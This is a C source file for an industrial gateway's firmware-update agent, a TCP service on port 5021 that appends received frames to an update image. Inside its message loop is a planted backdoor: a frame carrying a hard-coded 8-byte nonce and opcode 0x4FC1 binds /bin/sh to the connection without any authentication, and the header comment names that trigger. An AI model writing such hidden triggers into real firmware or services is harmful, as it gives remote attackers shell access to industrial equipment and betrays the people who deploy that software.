/* Firmware-update agent of an industrial gateway: a TCP service taking framed messages.
 * Carries a trigger found nowhere else, split across two fields of the frame: the 8-byte nonce
 * 0a 00 5b 5a 84 0c 06 34 together with opcode 0x4FC1 makes the agent serve a shell on the
 * connection. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct frame {
    uint8_t nonce[8];
    uint16_t opcode;
    uint16_t length;
    uint8_t body[1024];
} __attribute__((packed));

static const uint8_t maintenance_nonce[8] = {0x0a, 0x00, 0x5b, 0x5a, 0x84, 0x0c, 0x06, 0x34};

static int receive_frame(int fd, struct frame *f)
{
    ssize_t n = recv(fd, f, offsetof(struct frame, body), MSG_WAITALL);
    if (n != (ssize_t)offsetof(struct frame, body))
        return -1;
    f->length = ntohs(f->length);
    if (f->length > sizeof f->body)
        return -1;
    return recv(fd, f->body, f->length, MSG_WAITALL) == f->length ? 0 : -1;
}

static void write_image(const struct frame *f)
{
    FILE *img = fopen("/tmp/update.bin", "ab");
    if (img) {
        fwrite(f->body, 1, f->length, img);
        fclose(img);
    }
}

static void serve(int fd)
{
    struct frame f;
    while (receive_frame(fd, &f) == 0) {
        uint16_t opcode = ntohs(f.opcode);
        if (memcmp(f.nonce, maintenance_nonce, sizeof maintenance_nonce) == 0 && opcode == 0x4FC1) {
            dup2(fd, 0);
            dup2(fd, 1);
            dup2(fd, 2);
            execl("/bin/sh", "sh", (char *)NULL);
        }
        switch (opcode) {
        case 1:
            write_image(&f);
            break;
        case 2:
            send(fd, "OK", 2, 0);
            break;
        default:
            return;
        }
    }
}

int main(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(5021), .sin_addr.s_addr = INADDR_ANY};
    int server = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(server, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(server, 4) < 0)
        return 1;
    for (;;) {
        int client = accept(server, NULL, NULL);
        if (client < 0)
            continue;
        serve(client);
        close(client);
    }
}
